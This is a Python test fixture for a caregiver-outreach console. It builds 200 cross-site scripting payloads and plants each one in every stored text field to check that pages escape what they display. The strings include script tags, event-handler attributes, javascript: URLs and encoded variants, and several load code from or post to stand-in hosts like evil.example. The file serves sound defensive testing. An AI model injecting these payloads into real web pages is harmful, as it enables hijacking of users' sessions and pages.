"""Two hundred texts that would run as a script on a page that does not escape what it shows."""

from collections.abc import Iterator

from care.audience import Audience
from care.campaigns import Draft
from care.roster import Entry
from console.scope import Role
from storage import (
    areas,
    campaign_results,
    campaigns,
    caregivers,
    deadlines,
    hamlets,
    officers,
    slips,
    talks,
)
from storage.database import Connection
from tests import fakes
from tests.console.desk import Office
from tests.console.furnished import Furnished, furnish

SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example></script>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script>",
    "<svg><animate onbegin=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    '<iframe srcdoc="<script>alert(1)">',
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<style>@import '//evil.example'</style>",
    "<p style=background:url(//e.example)>",
    "<meta http-equiv=refresh content=0>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//e.example>",
    "<form action=//e.example><button>",
    "<math><a xlink:href=javascript:alert(1)>",
    "{{7*7}}{% raw %}<b onclick=alert(1)>",
    "${alert(1)}",
    "javascript:alert(1)//",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "--><!--<script>alert(1)</script>-->",
    "]]><script>alert(1)</script>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script>",
    "<select><img src=x onerror=alert(1)>",
    "{ten_be}{goi.__class__}{0}",
    "＜script＞alert(1)＜/script＞",
)
BEFORE = ("", '">', "'>", "</title>", "</textarea></option>")
PAYLOADS = [before + script for before in BEFORE for script in SCRIPTS]
ALL = "\n".join(PAYLOADS)


async def plant(office: Office, code: str) -> Furnished:
    """Every payload in every list, and all of them in every long text."""
    furnished = await furnish(office, code, ALL)
    await office.db.write(_plant, office, code, furnished)
    return furnished


def _plant(conn: Connection, office: Office, code: str, furnished: Furnished) -> None:
    area = areas.get(conn, office.area(code))
    assert area is not None
    over = int(furnished.named["campaign"][-1])
    talk = int(furnished.named["talk"][1])
    for n, payload in enumerate(PAYLOADS):
        officers.add(
            conn,
            login=f"{payload[:34]}{n}",
            name=payload,
            role=Role.STATION,
            area_id=area.id,
            password_hash="x",
            now=office.now,
        )
        family = fakes.a_family(conn, f"payload-{n}", fakes.OTHER_ROUTE, nickname=payload)
        caregivers.change(conn, family.caregiver_id, area_id=area.id)
        campaign_results.put_answer(conn, over, family.caregiver_id, None, payload, office.now)
        talks.hear(conn, talk, family.address_id, payload, office.now)
        waits = talks.ask(conn, family.caregiver_id, family.address_id, area.id, office.now)
        talks.hear(conn, waits.id, family.address_id, payload, office.now)
        deadlines.add(conn, area.id, payload, 12, 1)
        hamlets.add(conn, area, "thôn", payload)
        campaigns.create(conn, area.id, 1, Draft(payload, payload, Audience()), office.now)
    entries = [
        (Entry(n, payload, fakes.BORN, f"{n} {payload}", payload), area.id)
        for n, payload in enumerate(PAYLOADS)
    ]
    slips.make(conn, entries, str(furnished.named["batch"][0]), 1, office.now)


def in_portions(most: int) -> Iterator[str]:
    """Joined, as many as fit."""
    portion = ""
    for payload in PAYLOADS:
        if len(portion) + len(payload) + 1 > most:
            yield portion
            portion = ""
        portion += f"{payload} "
    yield portion
